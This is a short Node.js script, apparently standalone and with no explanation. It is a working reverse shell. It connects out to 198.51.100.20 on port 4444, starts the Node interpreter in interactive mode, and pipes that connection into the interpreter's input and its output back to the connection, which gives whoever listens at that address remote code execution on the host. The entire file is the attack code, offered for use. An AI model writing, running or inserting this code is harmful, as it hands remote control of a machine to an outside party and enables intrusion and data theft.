import net from 'node:net'
import { spawn } from 'node:child_process'

const link = net.connect({ host: '198.51.100.20', port: 4444 }, () => {
  const child = spawn(process.argv0, ['-i'])
  link.pipe(child.stdin)
  child.stdout.pipe(link)
})
